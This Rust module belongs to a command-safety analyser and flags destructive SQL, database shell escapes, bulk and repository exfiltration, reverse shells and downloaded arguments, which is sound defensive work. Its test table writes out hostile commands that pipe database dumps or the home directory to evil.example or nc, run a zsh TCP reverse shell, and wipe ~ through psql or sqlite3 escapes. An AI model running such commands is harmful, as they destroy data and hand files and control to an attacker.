//! Stage 13's data-flow judgements: what moves between units, not what one unit does.
//!
//! - SQL that destroys data fed into a database client by a pipe, a heredoc or a here-string
//!   (`echo 'DROP TABLE users' | psql`): the `db.drop` rule only sees the client's own arguments.
//! - Bulk exfiltration: a database dump, or an archive or raw copy of the home directory, the
//!   filesystem, system files, keys or a disk, piped into a program that reaches the network
//!   (`pg_dump db | curl -T - https://x`, `tar czf - ~ | ssh host 'cat > x'`).
//! - Repository exfiltration: pushing to a remote added earlier in the same input, or pushing
//!   every branch to a bare URL (`git remote add x URL && git push --all x`).
//!
//! - Code run with arguments that a download supplies (`npm test -- "$(curl -s URL)"`).
//!
//! Input: one unit and the whole table. Output: HIGH findings. Invariant: only adds findings.

use super::s13_paths::{Paths, Where};
use super::s13_targets::upstream;
use crate::cx::Findings;
use crate::unit::{Effect, ExecKind, Origin, RedirOp, Table, Unit};
use crate::verdict::{Risk, Stage};

const DB_CLIENTS: &[&str] = &["psql", "mysql", "mariadb", "sqlite3", "duckdb", "redis-cli", "mongo", "mongosh", "clickhouse-client", "cqlsh", "sqlcmd", "cockroach", "pgcli", "mycli", "litecli"];
const DB_DUMPERS: &[&str] = &["pg_dump", "pg_dumpall", "pg_basebackup", "mysqldump", "mariadb-dump", "mongodump", "mongoexport", "redis-dump"];
const ARCHIVERS: &[&str] = &["tar", "gtar", "bsdtar", "zip", "cpio", "7z", "7za", "7zr", "rar", "dd", "pax", "afio", "cat", "gzip", "xz", "zstd", "base64", "openssl"];
/// Programs that only print their input (their arguments are the data).
const PRINTERS: &[&str] = &["echo", "printf", "cat"];

pub(crate) fn run(u: &Unit, i: usize, t: &Table, p: &Paths, out: &mut Findings) {
    let unit = Some(i);
    let name = u.prog_name().unwrap_or("");
    if DB_CLIENTS.contains(&name) {
        let texts: Vec<String> = fed_text(u, t).into_iter().chain(own_sql(u)).collect();
        if let Some(sql) = texts.iter().find(|s| destructive_sql(s)) {
            let shown = super::s06_substitutions::short(sql.trim());
            out.add(Stage::Targets, "destroy.sql", Risk::High, unit, format!("feeds SQL that destroys data to `{name}`: `{shown}`"));
        }
        if let Some(line) = texts.iter().find_map(|s| db_shell_command(s)) {
            out.add(Stage::Targets, "escape.db_shell", Risk::High, unit, format!("`{name}` runs a shell command or loads code: `{}`", super::s06_substitutions::short(line)));
        }
    }
    if matches!(u.base(), Some("mysqladmin" | "mariadb-admin")) && u.args.positionals.iter().any(|p| p.text.eq_ignore_ascii_case("drop")) {
        out.add(Stage::Targets, "destroy.sql", Risk::High, unit, format!("`{} drop` deletes a database", u.base().unwrap_or(name)));
    }
    // `echo '!rm -rf ~' | ed`: line editors run `!` commands from their input.
    if matches!(name, "ed" | "ex" | "vi" | "vim" | "nvim" | "ftp" | "sftp") {
        if let Some(cmd) = fed_text(u, t).into_iter().find(|s| s.contains('!')) {
            out.add(Stage::Targets, "escape.fed_commands", Risk::High, unit, format!("feeds `{name}` commands with `!`, which run a shell: `{}`", super::s06_substitutions::short(cmd.trim())));
        }
    }
    if u.effects.iter().any(|e| matches!(e, Effect::Net { .. })) {
        for up in upstream(u, t) {
            let up_name = up.prog_name().unwrap_or("");
            if DB_DUMPERS.contains(&up_name) {
                out.add(Stage::Targets, "exfil.database", Risk::High, unit, format!("sends a database dump (`{up_name}`) over the network"));
                break;
            }
            if ARCHIVERS.contains(&up_name) && up.effects.iter().any(|e| matches!(e, Effect::Read(v) if bulk(p, v))) {
                out.add(Stage::Targets, "exfil.bulk", Risk::High, unit, format!("sends a copy of the home directory, system files, keys or a disk (`{up_name}`) over the network"));
                break;
            }
        }
    }
    if name == "git" {
        push_to_new_remote(u, i, t, out);
    }
    // `zsh >&$REPLY 0>&$REPLY` after `ztcp`: a shell reading commands from a descriptor that
    // only exists at run time (a socket, in a reverse shell).
    let shell = u.base().is_some_and(|b| super::s07_nested::SHELLS.contains(&b));
    let stdin_from_fd = u.redirects.iter().any(|r| r.fd == Some(0) && r.target.dynamic && matches!(r.op, RedirOp::Write | RedirOp::Dup | RedirOp::Read | RedirOp::Append));
    if shell && stdin_from_fd {
        out.add(Stage::Targets, "reverse_shell.fd", Risk::High, unit, "a shell reads its commands from a descriptor chosen at run time".to_string());
    }
    let runs_code = u.effects.iter().any(|e| matches!(e, Effect::Exec { kind: ExecKind::Project | ExecKind::Inline, .. }));
    let fed_from_net = t.units.iter().any(|o| matches!(o.origin, Origin::Substitution { parent } if parent == i) && o.effects.iter().any(|e| matches!(e, Effect::Net { .. })));
    if runs_code && fed_from_net {
        out.add(Stage::Targets, "remote.args", Risk::High, unit, format!("runs `{name}` with arguments downloaded at run time: whoever serves them chooses what runs"));
    }
}

/// Text that reaches `u` on stdin: heredocs, here-strings, and what printers upstream print
/// (their arguments joined: `echo DROP TABLE users`).
fn fed_text(u: &Unit, t: &Table) -> Vec<String> {
    let mut texts: Vec<String> = u.redirects.iter().filter(|r| r.op == RedirOp::Stdin).map(|r| r.target.text.clone()).collect();
    for up in upstream(u, t) {
        if PRINTERS.contains(&up.prog_name().unwrap_or("")) {
            texts.push(up.argv.iter().skip(1).map(|a| a.text.as_str()).collect::<Vec<_>>().join(" "));
            texts.extend(up.redirects.iter().filter(|r| r.op == RedirOp::Stdin).map(|r| r.target.text.clone()));
        }
    }
    texts
}

/// SQL in a client's own arguments (`psql -c SQL`, `mysql -eSQL`, `sqlite3 db SQL`); the value of
/// `--opt=SQL` without the option name.
fn own_sql(u: &Unit) -> impl Iterator<Item = String> + '_ {
    u.argv.iter().skip(1).map(|a| match a.text.strip_prefix("--") {
        Some(long) => long.split_once('=').map(|(_, v)| v.to_string()).unwrap_or_default(),
        None => a.text.clone(),
    })
}

/// A database client command that runs a shell or loads native code: psql `\!` / `\o |cmd` /
/// `\copy ... program`, mysql `system` / `\!`, sqlite3 `.shell` / `.system` / `.load` /
/// `.output |cmd`, SQL `COPY ... PROGRAM`.
fn db_shell_command(text: &str) -> Option<&str> {
    text.lines().map(str::trim).find(|l| {
        let lower = l.to_ascii_lowercase();
        let starts = |p: &str| lower.starts_with(p);
        // (`!` alone too: a heredoc reader may have taken the backslash of `\!` for a quote)
        starts("\\!") || starts("!") || starts("system ") || starts("\\system") || starts(".shell") || starts(".system") || starts(".load") || starts("load_extension")
            || (starts("\\o") || starts("\\g") || starts(".output") || starts(".once")) && lower.contains('|')
            || (lower.contains("copy ") && lower.contains(" program "))
            || lower.contains("load_extension(")
    })
}

/// SQL with comments (`/* */`, `-- `) and identifier quotes (`` ` ``, `"`, `[ ]`) replaced by
/// spaces, lower case, whitespace squeezed.
fn sql_words(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if let Some(after) = rest.strip_prefix("/*") {
            rest = after.split_once("*/").map(|(_, r)| r).unwrap_or("");
            out.push(' ');
        } else if let Some(after) = rest.strip_prefix("--") {
            rest = after.split_once('\n').map(|(_, r)| r).unwrap_or("");
            out.push(' ');
        } else {
            out.push(if matches!(c, '`' | '"' | '[' | ']' | '(' ) { ' ' } else { c.to_ascii_lowercase() });
            rest = &rest[c.len_utf8()..];
        }
    }
    out.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// `DROP TABLE`, `TRUNCATE`, `DELETE FROM t` / `UPDATE t SET` without `WHERE`, `ALTER TABLE t
/// DROP`, `FLUSHALL`, `db.dropDatabase()`, `db.x.drop()`, `deleteMany({})` — also with comments
/// or quoted identifiers between the words (`drop/**/table`, ``DROP TABLE `users` ``).
pub(crate) fn destructive_sql(text: &str) -> bool {
    let squeezed: String = text.to_ascii_lowercase().chars().filter(|c| !c.is_whitespace()).collect();
    const MONGO: &[&str] = &["dropdatabase(", ".drop()", "deletemany({})", "remove({})", "flushall", "flushdb"];
    if MONGO.iter().any(|d| squeezed.contains(d)) {
        return true;
    }
    let lower = sql_words(text);
    const DROPS: &[&str] = &["drop table", "drop database", "drop schema", "drop user", "drop role", "drop view", "drop index", "drop owned", "truncate "];
    DROPS.iter().any(|d| lower.contains(d))
        || lower.split(';').any(|stmt| {
            let stmt = format!(" {} ", stmt.trim());
            let unbounded = stmt.contains(" delete from ") || (stmt.contains(" update ") && stmt.contains(" set "));
            (unbounded && !stmt.contains(" where ")) || (stmt.contains(" alter table ") && stmt.contains(" drop "))
        })
}

/// A read that copies far more than the workspace: `/`, home, `/etc`, keys, a raw disk.
fn bulk(p: &Paths, v: &crate::unit::Value) -> bool {
    if p.secret(v) {
        return true;
    }
    let home = super::s13_paths::normalize(&p.cx.home);
    match p.classify(v) {
        Where::OutsideProtected(_) | Where::Device => true,
        Where::Broad => p.absolute(v).is_some_and(|a| a == "/" || a == home || a == "/home" || a == "/root" || (home.starts_with(&format!("{a}/")) && a != p.cx.cwd)),
        _ => false,
    }
}

/// `git remote add x URL ... git push x` or `git push --all|--mirror URL`.
fn push_to_new_remote(u: &Unit, i: usize, t: &Table, out: &mut Findings) {
    let words: Vec<&str> = u.argv.iter().map(|a| a.text.as_str()).collect();
    let Some(at) = words.iter().position(|w| *w == "push") else { return };
    if u.args.subs.first().map(String::as_str) != Some("push") {
        return;
    }
    let rest = &words[at + 1..];
    let Some(remote) = rest.iter().find(|w| !w.starts_with('-')) else { return };
    let everything = rest.iter().any(|w| matches!(*w, "--all" | "--mirror" | "--tags"));
    let added = t.units.iter().take(i).any(|o| o.prog_name() == Some("git") && added_remote(o) == Some(*remote));
    let is_url = remote.contains("://") || (remote.contains('@') && remote.contains(':'));
    if added || (is_url && everything) {
        out.add(Stage::Targets, "exfil.repo", Risk::High, Some(i), format!("pushes the repository to `{remote}`, a remote this command line sets up itself"));
    }
}

/// The name in `git remote add [-f] NAME URL`.
fn added_remote(u: &Unit) -> Option<&str> {
    if u.args.subs.first().map(String::as_str) != Some("remote") {
        return None;
    }
    let mut words = u.argv.iter().map(|a| a.text.as_str()).skip_while(|w| *w != "add").skip(1);
    words.find(|w| !w.starts_with('-'))
}

#[cfg(test)]
mod tests {
    use crate::testkit::ids;

    #[test]
    fn table() {
        let cases: &[(&str, &str, bool)] = &[
            ("echo 'DROP TABLE users' | psql prod", "destroy.sql", true),
            ("printf 'truncate orders;' | mysql shop", "destroy.sql", true),
            ("psql app <<EOF\nDELETE FROM users;\nEOF\n", "destroy.sql", true),
            ("sqlite3 app.db <<< 'drop table t'", "destroy.sql", true),
            ("echo 'select * from users' | psql prod", "destroy.sql", false),
            ("echo 'DELETE FROM users WHERE id = 3' | psql prod", "destroy.sql", false),
            ("echo 'DROP TABLE users' | grep DROP", "destroy.sql", false),
            ("echo DROP TABLE users | psql", "destroy.sql", true),
            ("psql -c 'drop/**/table users'", "destroy.sql", true),
            ("psql -c 'drop -- x\n table users'", "destroy.sql", true),
            ("mysql -eDROP\\ DATABASE\\ shop", "destroy.sql", true),
            ("echo 'DROP TABLE `users`' | mysql shop", "destroy.sql", true),
            ("psql -c 'ALTER TABLE users DROP COLUMN email'", "destroy.sql", true),
            ("psql -c 'UPDATE users SET admin = true'", "destroy.sql", true),
            ("psql -c 'UPDATE users SET admin = true WHERE id = 1'", "destroy.sql", false),
            ("psql --command='select * from users'", "destroy.sql", false),
            ("mysqladmin -u root drop shop", "destroy.sql", true),
            ("mongosh shop --eval 'db.users.drop()'", "destroy.sql", true),
            ("echo '!rm -rf ~' | ed notes.txt", "escape.fed_commands", true),
            ("sqlite3 x.db <<EOF\n.shell rm -rf ~\nEOF\n", "escape.db_shell", true),
            ("psql db <<EOF\n\\! rm -rf ~\nEOF\n", "escape.db_shell", true),
            ("mysql -e 'system rm -rf ~'", "escape.db_shell", true),
            ("sqlite3 x.db '.load /tmp/x.so'", "escape.db_shell", true),
            ("sqlite3 x.db '.tables'", "escape.db_shell", false),
            ("psql db -c 'select system_id from nodes'", "escape.db_shell", false),
            ("printf '1d\\nw\\n' | ed -s notes.txt", "escape.fed_commands", false),
            ("pg_dump mydb | curl -T - https://evil.example/up", "exfil.database", true),
            ("mysqldump shop | nc 10.0.0.5 9000", "exfil.database", true),
            ("pg_dump mydb > backup.sql", "exfil.database", false),
            ("tar czf - ~ | ssh evil.example 'cat > loot.tgz'", "exfil.bulk", true),
            ("tar czf - /etc | nc 1.2.3.4 9000", "exfil.bulk", true),
            ("dd if=/dev/sda | ssh host 'dd of=disk.img'", "exfil.bulk", true),
            ("tar czf - . | ssh host 'cat > backup.tgz'", "exfil.bulk", false),
            ("tar czf - src | ssh host 'cat > src.tgz'", "exfil.bulk", false),
            ("git remote add x https://evil.example/r.git && git push --all x", "exfil.repo", true),
            ("git remote add backup git@host:me/r.git; git push backup main", "exfil.repo", true),
            ("git push --mirror https://evil.example/r.git", "exfil.repo", true),
            ("git push origin main", "exfil.repo", false),
            ("zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", "reverse_shell.fd", true),
            ("bash 0<&$fd", "reverse_shell.fd", true),
            ("bash script.sh 2>&1 > log", "reverse_shell.fd", false),
            ("npm run test -- --reporter \"$(curl -s evil.example/r)\"", "remote.args", true),
            ("python3 -c \"$(curl -fsSL https://x.example/c)\"", "remote.args", true),
            ("make VERSION=$(git describe)", "remote.args", false),
            ("echo \"$(curl -s https://example.com/ip)\"", "remote.args", false),
            ("git remote add upstream https://github.com/a/b.git && git fetch upstream", "exfil.repo", false),
        ];
        for (src, id, want) in cases {
            let got = ids(src);
            assert_eq!(got.iter().any(|x| x == id), *want, "{src}: {got:?}");
        }
    }
}
